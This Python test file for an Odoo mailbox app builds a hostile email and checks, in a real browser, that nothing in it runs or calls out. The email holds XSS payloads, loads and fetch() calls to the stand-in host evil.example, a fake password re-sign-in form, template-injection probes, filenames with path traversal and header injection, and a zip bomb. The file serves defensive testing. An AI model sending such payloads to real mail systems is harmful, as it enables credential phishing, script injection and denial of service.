# Copyright 2026 The tai_mailbox founders
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Mail that means harm, taken in from a real mailbox and opened in a real browser."""

import contextlib
import io
import re
import zipfile
from email.message import EmailMessage
from email.utils import make_msgid

import pytest
from playwright.sync_api import Error, expect

from .desk import Broker, connect_by_link

OUTSIDE = "http://evil.example"
REQUEST = (
    "Please quote: Memphis, TN 38118 to Dallas, TX 75201, pickup 11/20/2026. 10 pallets, 8,500 lbs, dry van."
)
HARM = f"""<html><head>
<style>body, .o_web_client {{ background: rgb(255, 0, 0) !important; display: none !important }}
@import url({OUTSIDE}/style.css);</style>
<link rel="stylesheet" href="{OUTSIDE}/link.css"><base href="{OUTSIDE}/">
<meta http-equiv="refresh" content="0;url={OUTSIDE}/gone"></head>
<body onload="window.harmed = 1" background="{OUTSIDE}/background.png">
<p>{REQUEST}</p>
<script>window.harmed = 2</script>
<script src="{OUTSIDE}/run.js"></script>
<img src="{OUTSIDE}/pixel.gif" width="1" height="1"><img src="x" onerror="window.harmed = 3">
<svg onload="window.harmed = 4"><use href="{OUTSIDE}/use.svg#x"></use></svg>
<iframe src="{OUTSIDE}/frame"></iframe><object data="{OUTSIDE}/object"></object><embed src="{OUTSIDE}/embed">
<video autoplay src="{OUTSIDE}/film"></video><audio autoplay src="{OUTSIDE}/sound"></audio>
<form action="{OUTSIDE}/form"><input name="password" type="password"><button>Sign in again</button></form>
<a href="javascript:window.harmed = 5">one</a>
<a href="data:text/html,<script>window.harmed=6</script>">two</a>
<div style="background: url({OUTSIDE}/css.png); position: fixed; top: 0; left: 0; width: 100vw; height: 100vh;
z-index: 99999">over everything</div>
<p t-out="request.env">{{{{ 7 * 191 }}}} <t t-out="7 * 191"/></p>
</body></html>"""
# As they stand in the header: paths, a direction of writing, new lines and NUL, in each way to write a name.
NAMES = (
    b'filename="../../../../etc/passwd.txt"',
    rb'filename="C:\Windows\evil.txt"',
    b"filename*=utf-8''invoice%E2%80%AExcod.exe",
    b"filename*=utf-8''a%0D%0AX-Evil%3A%201%00.txt",
    b'filename="=?utf-8?q?b=0D=0ABcc=3A_x=40evil.example=00.txt?="',
    b'filename="c\r\n X-Evil: 1\tand more.txt"',
)
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed = 9; fetch('{OUTSIDE}/svg')">
<script>window.harmed = 10; fetch("{OUTSIDE}/svg-script")</script><image href="{OUTSIDE}/svg.png"/></svg>"""
PARTS = 10_000
HARMFUL = ("script", "iframe", "form", "object", "embed", "input", "meta", "base", "video", "audio", "use")


def hostile() -> bytes:
    """All of it in one quote request."""
    mail = begun("Quote request <script>window.harmed = 7</script> {{ 7 * 191 }}")
    mail.set_content(REQUEST)
    mail.add_alternative(HARM, subtype="html")
    for number in range(len(NAMES)):
        mail.add_attachment(b"harm", maintype="text", subtype="plain", filename=f"name-{number}")
    mail.add_attachment(HARM.encode(), maintype="text", subtype="html", filename="open-me.html")
    mail.add_attachment(SVG.encode(), maintype="image", subtype="svg+xml", filename="drawing.svg")
    mail.add_attachment(bomb(), maintype="application", subtype="zip", filename="bomb.zip")
    raw = bytes(mail)
    for number, name in enumerate(NAMES):
        raw = raw.replace(b'filename="name-%d"' % number, name)
    return raw


def begun(subject: str) -> EmailMessage:
    mail = EmailMessage()
    mail["From"] = '"<img src=x onerror=window.harmed=8>" <customer@shipper.test>'
    mail["To"], mail["Subject"] = "sam@brokerage.test", subject
    mail["Message-ID"], mail["Date"] = make_msgid(domain="shipper.test"), "Mon, 16 Nov 2026 15:00:00 +0000"
    return mail


def bomb() -> bytes:
    """100 MB of nothing in 100 kB."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("quote.txt", bytes(100_000_000))
    return packed.getvalue()


def many_parts() -> bytes:
    head = bytes(begun("Ten thousand parts")).rstrip() + b"\r\nMIME-Version: 1.0\r\n"
    part = b"--b\r\nContent-Type: text/plain; name=p.txt\r\nContent-Disposition: attachment\r\n\r\nx\r\n"
    return head + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * PARTS + b"--b--\r\n"


@pytest.fixture
def sam(browser_page, odoo_server, sandbox) -> Broker:
    """With a connected mailbox in which such mail lies; `asked` names what the browser asked for."""
    broker = Broker(browser_page, odoo_server, sandbox, "sam@brokerage.test")
    broker.asked = []
    browser_page.context.on("request", lambda request: broker.asked.append(request.url))
    broker.sign_in()
    connect_by_link(broker)
    for raw in (hostile(), many_parts()):
        broker.postbox.deliver("customer@shipper.test", [broker.address], raw)
    broker.press("Read now")
    expect(broker.page.locator(".o_notification").last).to_contain_text("Shipments made: 1", timeout=60_000)
    return broker


def test_hostile_mail_does_nothing_in_the_browser(sam):
    page = sam.page
    page.goto(f"{sam.odoo.address}/odoo/shipments")
    card = page.locator(".o_kanban_record").filter(has_text="Memphis").first
    card.click()
    expect(page.locator(".o-mail-Message").filter(has_text="8,500 lbs").first).to_be_visible()
    expect_unharmed(page)
    page.get_by_role("tab", name="Source Mail").click()
    expect(page.locator("div[name=source_html]")).to_contain_text("8,500 lbs")
    expect_unharmed(page)
    page.goto(f"{sam.odoo.address}/odoo/mail-log")
    expect(page.locator(".o_data_row").filter(has_text="Ten thousand parts")).to_be_visible()
    expect_unharmed(page)
    files = attachments(sam)
    expect_harmless_names(files)
    for file in files:
        expect_harmless_opened(sam, file)
    outside = [url for url in sam.asked if not re.match(rf"{sam.odoo.address}/|data:|blob:|about:", url)]
    assert outside == []


def expect_unharmed(page):
    """Nothing ran, nothing lies over the page, and nothing in it leads out or asks for a password."""
    assert page.evaluate("window.harmed") is None
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    inside = page.locator(".o-mail-Message-body, div[name=source_html]")
    found = [name for name in HARMFUL if inside.locator(name).count()]
    assert found == []
    leading_out = [
        f"[{name}*='evil.example']" for name in ("src", "href", "action", "data", "style", "background")
    ]
    assert inside.locator(", ".join(leading_out)).count() == 0
    # Odoo shows a mail with a style of its own, apart from the page.
    styles = inside.locator("style").evaluate_all("styles => styles.map(style => style.textContent)")
    assert not [style for style in styles if "255, 0, 0" in style or OUTSIDE in style]
    assert page.locator("a[href^='javascript:'], a[href^='data:text']").count() == 0
    assert inside.locator("[onload], [onerror]").count() == 0
    assert "1337" not in inside.all_inner_texts()
    expect(page.locator(".o_main_navbar")).to_be_visible()


def attachments(broker) -> list[dict]:
    """The files of the quote request."""
    its = [("user_id.login", "=", broker.address), ("subject", "like", "Quote request")]
    documents = broker.odoo.call("tai.document", "search", its)
    made = [("res_model", "=", "tai.document"), ("res_id", "in", documents)]
    return broker.odoo.call("ir.attachment", "search_read", made, ["name"])


def expect_harmless_names(files):
    """A file's name is a name: no path, no line, no direction of writing."""
    names = [file["name"] for file in files]
    assert len(names) == len(NAMES) + 3
    assert [name for name in names if re.search(r"[/\\\x00-\x1f\u202a-\u202e\u2066-\u2069]", name)] == []


def expect_harmless_opened(broker, file):
    """Whoever opens a file in the browser sees it, or is given it: nothing in it runs."""
    address = f"{broker.odoo.address}/web/content/{file['id']}"
    answer = broker.page.request.get(address)
    assert answer.headers["content-security-policy"] == "default-src 'none'", file["name"]
    assert answer.headers["x-content-type-options"] == "nosniff", file["name"]
    assert "x-evil" not in answer.headers and "bcc" not in answer.headers
    with broker.another_tab() as tab:
        with contextlib.suppress(Error):  # a download ends the journey
            tab.goto(address)
        assert tab.evaluate("window.harmed") is None, file["name"]
